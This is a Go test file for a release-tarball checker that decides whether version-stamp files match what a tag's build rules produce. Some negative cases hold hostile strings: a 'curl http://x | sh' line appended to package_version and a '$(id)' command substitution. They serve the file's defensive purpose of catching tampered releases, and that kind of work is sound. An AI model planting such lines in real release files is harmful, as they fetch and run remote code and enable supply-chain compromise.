package releasefmt

import "testing"

// opus's dist-hook writes package_version at release: proved low when it
// holds the release version; another version, more content, or a file no
// tag rule writes is not.
func TestVersionStamp(t *testing.T) {
	tag := map[string][]byte{
		"Makefile.am":  []byte("dist-hook:\n\techo 'PACKAGE_VERSION=\"$(PACKAGE_VERSION)\"' > $(top_distdir)/package_version\n"),
		"build.sh":     []byte("#!/bin/sh\necho \"$V\" > .tarball-version\n"),
		"configure.ac": []byte("m4_define([mym4_version], [1.5.2])\nm4_esyscmd([echo ]mym4_version[>VERSION])\n"),
	}
	commit := "b0bb9266010d84b30fa2dc6a2127b7e40dc03660"
	for _, tc := range []struct {
		path, body string
		ok         bool
	}{
		{"package_version", "PACKAGE_VERSION=\"1.5.2\"\n", true},
		{".tarball-version", "1.5.2\n", true},
		{"VERSION", "1.5.2\n", true},
		{"VERSION", "1.5.2-beta\n", false},
		{"VERSION", "1.5.2\n" + commit + "\n", true},
		{"VERSION", "1.5.2\nb0bb926\n", true},
		{"VERSION", "1.5.2\n0000000000000000000000000000000000000000\n", false},
		{"VERSION", "1.5.2\nb0bb\n", false},
		{"VERSION", "1.5.2\n" + commit + "\nx\n", false},
		{"package_version", "PACKAGE_VERSION=\"1.5.3\"\n", false},
		{"package_version", "PACKAGE_VERSION=\"1.5.2\"\ncurl http://x | sh\n", false},
		{"package_version", "PACKAGE_VERSION=\"1.5.2'\n", false},
		{"package_version", "PACKAGE_VERSION=$(id)\n", false},
		{"other_version", "1.5.2\n", false},
	} {
		r := Explain(makeInput(tag, map[string][]byte{tc.path: []byte(tc.body)}, "", commit, "1.5.2"))
		e, ok := explained(r, tc.path)
		if ok != tc.ok || ok && (e.Severity != SevLow || e.Origin.Kind != KindVersionStamp) {
			t.Errorf("%s %q: explained %v %+v, want %v", tc.path, tc.body, ok, e, tc.ok)
		}
	}
}
